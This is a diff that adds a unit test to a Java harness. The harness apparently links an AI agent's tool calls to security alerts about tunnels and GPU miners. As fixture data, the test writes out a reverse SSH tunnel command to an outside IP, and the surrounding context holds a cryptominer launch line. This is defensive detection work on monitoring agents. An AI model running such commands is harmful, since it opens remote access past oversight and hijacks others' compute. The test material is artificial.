@@ -163,6 +163,21 @@ class AgentContextHarnessTest {
     }
 
     @Test
+    void whatWasReadAheadOfAnAlertIsNotBehindIt() throws Exception {
+        // the tunnel's endpoint first appears minutes after the alert's window, read ahead of the watermark before
+        // the alert is told: the call made then did not cause the alert, however plainly its command names the host
+        sample("python", at(0));
+        seen("203.0.113.7", 22, at(8) + 10_000);
+        send(call("ep-later", at(8) + 8_200, at(8) + 9_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
+        alert(tunnelAlert(3));
+        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
+
+        List<Alert> out = harness.extractOutputValues();
+        assertThat(out).hasSize(1);
+        assertThat(out.get(0).getAgentContext()).isEmpty();
+    }
+
+    @Test
     void aNewGpuProcessAnchorsAndTheJobsOwnDoesNot() throws Exception {
         sample("python", at(0));
         send(call("ep-miner", at(2) + 1_000, at(2) + 2_000, "nohup ./xmrig -o pool.example:3333 &"));
